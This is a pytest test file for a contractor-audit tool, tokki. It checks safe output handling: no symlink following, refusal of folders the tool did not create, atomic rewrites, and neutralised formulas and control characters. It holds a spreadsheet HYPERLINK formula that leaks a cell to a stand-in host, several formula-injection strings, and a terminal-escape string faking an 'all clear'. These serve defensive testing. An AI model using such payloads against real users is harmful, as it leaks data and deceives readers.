"""Hostile outputs: what tokki writes must be safe to open, and written only where it may.

An output folder may already hold other people's files or links planted by someone else; a
contractor's cell, file or folder name may hold a spreadsheet formula or terminal escapes.
tokki writes only what it owns, never follows a link when it writes or sets permissions,
leaves the previous report whole when a run fails, and every value it shows or exports is
inert: formulas neutralised, control characters shown as ``\\xNN``.
"""

from __future__ import annotations

import csv
import json
import os
import stat
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import (
    CONTRACT_HEADER,
    STAFF_HEADER,
    contract,
    staff_row,
    write_csv,
    write_xlsx,
)

from tokki_analytics.cli import main

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"x")'
#: A cell value that redraws the terminal line as a green "all clear".
FAKE_OK = "\x1b[2K\x1b[32m監査完了: 不備なし\x1b[0m\x7f\x9b[31m\u202eabc"
RAW_CONTROLS = ("\x1b", "\x7f", "\x9b", "\u202e")
TRIGGERS = ("=", "+", "-", "@")


def _run(data: Path, out: Path, *extra: str) -> int:
    return main(["run", str(data), "--out", str(out), "--quiet", "--no-datadocs", *extra])


def _snapshot(folder: Path) -> dict[str, bytes | str]:
    """Every entry below ``folder``: file bytes, link targets (without following links)."""
    found: dict[str, bytes | str] = {}
    for path in sorted(folder.rglob("*")):
        key = str(path.relative_to(folder))
        if path.is_symlink():
            found[key] = "-> " + os.readlink(path)
        elif path.is_file():
            found[key] = path.read_bytes()
    return found


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


# --- the output folder ------------------------------------------------------------------


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """Files and a folder outside every output folder, world-readable."""
    folder = tmp_path / "outside"
    (folder / "dir").mkdir(parents=True)
    (folder / "dir" / "inner.txt").write_text("inner", encoding="utf-8")
    (folder / "victim.csv").write_text("not yours", encoding="utf-8")
    (folder / "secret.txt").write_text("secret", encoding="utf-8")
    for path, mode in (
        (folder / "dir", 0o755),
        (folder / "dir" / "inner.txt", 0o644),
        (folder / "victim.csv", 0o644),
        (folder / "secret.txt", 0o644),
    ):
        path.chmod(mode)
    return folder


def test_links_in_an_existing_report_folder_are_never_followed(
    data_dir: Path, tmp_path: Path, outside: Path
):
    out = tmp_path / "reports"
    assert _run(data_dir, out, "--no-history") == 0
    # someone who can write into the report folder plants links to files outside it
    (out / "secret-link").symlink_to(outside / "secret.txt")
    (out / "dir-link").symlink_to(outside / "dir", target_is_directory=True)
    (out / "findings.csv").unlink()
    (out / "findings.csv").symlink_to(outside / "victim.csv")
    for path in sorted((out / "contractors").iterdir()):
        path.unlink()
    (out / "contractors").rmdir()
    (out / "contractors").symlink_to(outside / "dir", target_is_directory=True)
    before = _snapshot(outside)

    assert _run(data_dir, out, "--no-history", "--group-readable") == 0

    assert _snapshot(outside) == before, "nothing outside --out is written"
    assert _mode(outside / "dir") == 0o755 and _mode(outside / "dir" / "inner.txt") == 0o644
    assert _mode(outside / "victim.csv") == 0o644 and _mode(outside / "secret.txt") == 0o644
    assert not (out / "findings.csv").is_symlink() and (out / "findings.csv").is_file()
    assert (out / "contractors").is_dir() and not (out / "contractors").is_symlink()
    assert (out / "contractors" / "C001.html").is_file()
    assert (out / "secret-link").is_symlink(), "what tokki did not write stays"


def test_a_folder_tokki_did_not_create_is_refused_and_left_alone(
    data_dir: Path, tmp_path: Path, capsys
):
    out = tmp_path / "shared"
    out.mkdir()
    script = out / "deploy.sh"
    script.write_text("#!/bin/sh\n", encoding="utf-8")
    script.chmod(0o750)
    notes = out / "notes.txt"
    notes.write_text("minutes", encoding="utf-8")
    notes.chmod(0o640)
    out.chmod(0o755)
    before = _snapshot(out)

    assert _run(data_dir, out, "--no-history") == 2
    err = capsys.readouterr().err
    assert "tokki が作成したフォルダではありません" in err and "not created by tokki" in err
    assert "Traceback" not in err
    assert _snapshot(out) == before
    assert _mode(script) == 0o750 and _mode(notes) == 0o640 and _mode(out) == 0o755


def test_out_inside_the_data_folder_or_a_file_or_a_link_is_refused(
    data_dir: Path, tmp_path: Path, capsys
):
    inside = data_dir / "reports"
    assert _run(data_dir, inside, "--no-history") == 2
    err = capsys.readouterr().err
    assert "の中です" in err and "inside the data folder" in err
    assert not inside.exists()
    # the same folder reached through another spelling of its path
    assert _run(data_dir, data_dir / "C001_株式会社テスト" / ".." / "x", "--no-history") == 2
    capsys.readouterr()

    a_file = tmp_path / "report.txt"
    a_file.write_text("keep me", encoding="utf-8")
    assert _run(data_dir, a_file, "--no-history") == 2
    err = capsys.readouterr().err
    assert "フォルダではありません" in err and "not a folder" in err and "Traceback" not in err
    assert a_file.read_text(encoding="utf-8") == "keep me"

    target = tmp_path / "real"
    target.mkdir()
    link = tmp_path / "link"
    link.symlink_to(target, target_is_directory=True)
    assert _run(data_dir, link, "--no-history") == 2
    err = capsys.readouterr().err
    assert "シンボリックリンク" in err and "symbolic link" in err
    assert list(target.iterdir()) == []


def test_a_rerun_replaces_the_report_and_keeps_what_was_put_beside_it(
    data_dir: Path, tmp_path: Path
):
    # make demo's layout: the history store and the briefing live inside the run folder
    write_xlsx(
        data_dir / "委託契約一覧.xlsx",
        {"委託契約一覧": [CONTRACT_HEADER, contract(), contract("K-002", "C002")]},
    )
    out = tmp_path / "reports"
    history = out / ".history"
    assert _run(data_dir, out, "--history", str(history)) == 0
    assert (out / "contractors" / "C002.html").is_file()
    briefing = out / "briefing"
    briefing.mkdir()
    (briefing / "01_briefing.html").write_text("<p>briefing</p>", encoding="utf-8")
    stored = sorted(p.name for p in history.iterdir())

    # C002's contract ends: its page of the first run must not stay behind
    write_xlsx(data_dir / "委託契約一覧.xlsx", {"委託契約一覧": [CONTRACT_HEADER, contract()]})
    assert _run(data_dir, out, "--history", str(history)) == 0

    assert sorted(p.name for p in (out / "contractors").iterdir()) == ["C001.html"]
    assert "C002" not in (out / "findings.csv").read_text(encoding="utf-8-sig")
    assert (briefing / "01_briefing.html").read_text(encoding="utf-8") == "<p>briefing</p>"
    assert sorted(p.name for p in history.iterdir()) == stored
    leftovers = [p.name for p in out.iterdir() if p.name.startswith(".tokki-")]
    assert leftovers == [".tokki-owned"], "only the marker: no temporary folder is left"
    # a history store inside what the next run replaces would be lost: refused up front
    assert _run(data_dir, out, "--history", str(out / "contractors" / "history")) == 2


def test_a_failed_run_leaves_the_previous_report_whole(data_dir: Path, tmp_path: Path, monkeypatch):
    import tokki_analytics.render.html

    out = tmp_path / "reports"
    assert _run(data_dir, out, "--no-history") == 0
    before = _snapshot(out)
    write_xlsx(
        data_dir / "委託契約一覧.xlsx",
        {"委託契約一覧": [CONTRACT_HEADER, contract(), contract("K-002", "C002")]},
    )

    def broken(*args, **kwargs):
        raise RuntimeError("the disk filled up while writing the pages")

    monkeypatch.setenv("TOKKI_LOG_DIR", str(tmp_path / "logs"))
    monkeypatch.setattr(tokki_analytics.render.html, "write_html", broken)
    assert _run(data_dir, out, "--no-history") == 3
    assert _snapshot(out) == before, "the previous report is intact, nothing half-written"


def test_a_csv_is_never_left_half_written(data_dir: Path, tmp_path: Path, monkeypatch):
    out = tmp_path / "reports"
    assert _run(data_dir, out, "--no-history") == 0
    before = _snapshot(out)
    real = pd.DataFrame.to_csv

    def half(self, fh=None, *args, **kwargs):
        real(self.head(1), fh, *args, **kwargs)
        raise OSError(28, "No space left on device")

    monkeypatch.setenv("TOKKI_LOG_DIR", str(tmp_path / "logs"))
    monkeypatch.setattr(pd.DataFrame, "to_csv", half)
    assert _run(data_dir, out, "--no-history") == 2  # a full disk: a message, not a traceback
    assert _snapshot(out) == before

    from tokki_analytics.outputs.files import write_csv as export_csv

    target = out / "findings.csv"
    with pytest.raises(OSError):
        export_csv(pd.DataFrame({"a": ["x", "y"]}), target)
    assert _snapshot(out) == before, "the old file stays whole, no temporary file is left"


def test_notebook_and_samples_refuse_a_folder_tokki_did_not_create(
    data_dir: Path, tmp_path: Path, capsys
):
    foreign = tmp_path / "mine"
    foreign.mkdir()
    (foreign / "keep.xlsx").write_bytes(b"my own workbook")
    (foreign / "keep.xlsx").chmod(0o664)
    before = _snapshot(foreign)

    args = ["notebook", "briefing", "--data", str(data_dir), "--contractor", "C001"]
    assert main([*args, "--out", str(foreign)]) == 2
    assert "tokki が作成したフォルダではありません" in capsys.readouterr().err
    assert main([*args, "--out", str(data_dir / "briefing")]) == 2
    assert "inside the data folder" in capsys.readouterr().err
    assert not (data_dir / "briefing").exists()

    samples = ["samples", str(foreign), "--contractors", "1", "--access-rows", "50", "--force"]
    assert main(samples) == 2
    assert "tokki が作成したフォルダではありません" in capsys.readouterr().err
    assert _snapshot(foreign) == before and _mode(foreign / "keep.xlsx") == 0o664
    assert not (tmp_path / "mine_answer_key").exists()


# --- formulas and control characters in values ------------------------------------------


@pytest.fixture
def hostile_data(tmp_path: Path) -> Path:
    """A data folder whose ids, folder, file and sheet names hold formulas and escapes.

    The data folder's own name holds a terminal escape too.
    """
    root = tmp_path / "data\x1b[32m"
    contracts = [
        CONTRACT_HEADER,
        contract(),
        contract(HYPERLINK),
        contract("＝1+1"),  # full width: NFKC makes it =1+1
        contract("\t+2+2"),  # tab first: trimmed to +2+2
        contract("@SUM(1)"),
        contract("-3+3"),
        contract("K-007", "=C7"),
    ]
    write_csv(root / "委託契約一覧.csv", contracts)
    write_xlsx(
        root / "C001_株式会社テスト" / "提出書類.xlsx",
        {"作業従事者名簿": [STAFF_HEADER, staff_row("P001"), staff_row("P002", role="作業従事者")]},
    )
    unnotified = staff_row("P004", "K-007")
    unnotified[8] = None  # 届出日 blank: a C3-1 finding naming this file and sheet
    write_xlsx(root / "=C7_悪" / "作業従事者名簿.xlsx", {"＠SUM(1)": [STAFF_HEADER, unnotified]})
    late = staff_row("P005")
    late[8] = None
    escaped = staff_row("P003")
    escaped[6] = FAKE_OK  # 従事開始日: unreadable, a Q2 quoting the cell
    write_csv(
        root / "C001_株式会社テスト" / "作業従事者名簿_\x1b[31m偽.csv",
        [STAFF_HEADER, late, escaped],
    )
    return root


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _starts_a_formula(text: str) -> bool:
    normalised = unicodedata.normalize("NFKC", text).lstrip()
    return text.startswith(("\t", "\r")) or normalised.startswith(TRIGGERS)


def test_exported_csvs_hold_no_formula(hostile_data: Path, tmp_path: Path):
    out = tmp_path / "out"
    assert _run(hostile_data, out, "--no-history") == 0
    findings = _csv_rows(out / "findings.csv")
    compliance = _csv_rows(out / "compliance.csv")
    for name, rows in (("findings.csv", findings), ("compliance.csv", compliance)):
        formulas = [(k, v) for r in rows for k, v in r.items() if _starts_a_formula(v)]
        assert formulas == [], (name, formulas[:5])

    contract_ids = {r["contract_id"] for r in findings}
    for neutralised in ("'" + HYPERLINK, "'=1+1", "'+2+2", "'@SUM(1)", "'-3+3"):
        assert neutralised in contract_ids
    unnotified = next(r for r in findings if r["rule_id"] == "C3-1" and "P004" in r["detail"])
    assert unnotified["contractor_id"] == "'=C7"
    assert unnotified["source"] == "'=C7_悪/作業従事者名簿.xlsx"
    assert unnotified["sheet"] == "'@SUM(1)"
    assert unnotified["row"] == "2", "numbers stay numbers"
    assert {r["contractor_id"] for r in compliance} >= {"'=C7", "C001"}
    rates = [float(r["rate"]) for r in compliance if r["rate"]]
    assert rates and all(0 <= rate <= 1 for rate in rates)

    wb = openpyxl.load_workbook(out / "findings.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + HYPERLINK in {c.value for c in cells}

    # tokki reads its own CSV back (tokki notebook --run) with the values as they were
    from tokki_analytics.pipeline import read_compliance, read_findings

    back = read_findings(out / "findings.csv")
    assert HYPERLINK in set(back["contract_id"]) and "=C7" in set(back["contractor_id"])
    assert "=C7" in set(read_compliance(out / "compliance.csv")["contractor_id"])


def test_control_characters_are_shown_escaped_everywhere(
    hostile_data: Path, tmp_path: Path, capsys
):
    assert main(["load", str(hostile_data)]) == 0
    shown = capsys.readouterr().out
    assert not [c for c in RAW_CONTROLS if c in shown], "no raw escape reaches the terminal"
    assert "\\x1b[32m監査完了: 不備なし" in shown and "\\x1b[31m偽.csv" in shown
    assert "data\\x1b[32m" in shown

    assert main(["load", str(hostile_data), "--json"]) == 0
    text = capsys.readouterr().out
    assert not [c for c in RAW_CONTROLS if c in text]
    values = [d["detail"] for d in json.loads(text)["defects"]]
    assert any(FAKE_OK in v for v in values), "JSON keeps the value, escaped the JSON way"

    out = tmp_path / "out"
    assert main(["run", str(hostile_data), "--out", str(out), "--no-history"]) == 0
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "data\\x1b[32m" in printed

    findings = (out / "findings.csv").read_text(encoding="utf-8-sig")
    assert not [c for c in RAW_CONTROLS if c in findings]
    assert "\\x1b[31m偽.csv" in findings and "\\x1b[2K\\x1b[32m監査完了" in findings
    assert "\\x7f\\x9b[31m\\u202eabc" in findings

    pages = [out / "index.html", *sorted((out / "contractors").glob("*.html"))]
    pages += sorted((out / "datadocs").rglob("*.html"))
    html = "".join(p.read_text(encoding="utf-8") for p in pages)
    assert not [c for c in RAW_CONTROLS if c in html]
    assert "\\x1b[31m偽.csv" in html and "\\x1b[2K\\x1b[32m監査完了" in html

    with zipfile.ZipFile(out / "findings.xlsx") as book:
        xml = "".join(book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml"))
    assert not [c for c in RAW_CONTROLS if c in xml]
    assert "_x001b_" not in xml.lower()
    wb = openpyxl.load_workbook(out / "findings.xlsx")
    values = {str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert any("\\x1b[31m偽.csv" in v for v in values)
    assert any("\\x1b[2K\\x1b[32m監査完了" in v for v in values)


def test_an_existing_history_folder_keeps_its_permissions(data_dir: Path, tmp_path: Path):
    from tokki_analytics.history import DB_NAME

    store = tmp_path / "shared-history"
    store.mkdir()
    store.chmod(0o750)
    assert _run(data_dir, tmp_path / "out", "--history", str(store)) == 0
    assert _mode(store) == 0o750, "a folder tokki did not create keeps its permissions"
    assert _mode(store / DB_NAME) == 0o600, "the database tokki created is owner-only"
    fresh = tmp_path / "new-history"
    assert _run(data_dir, tmp_path / "out2", "--history", str(fresh)) == 0
    assert _mode(fresh) == 0o700
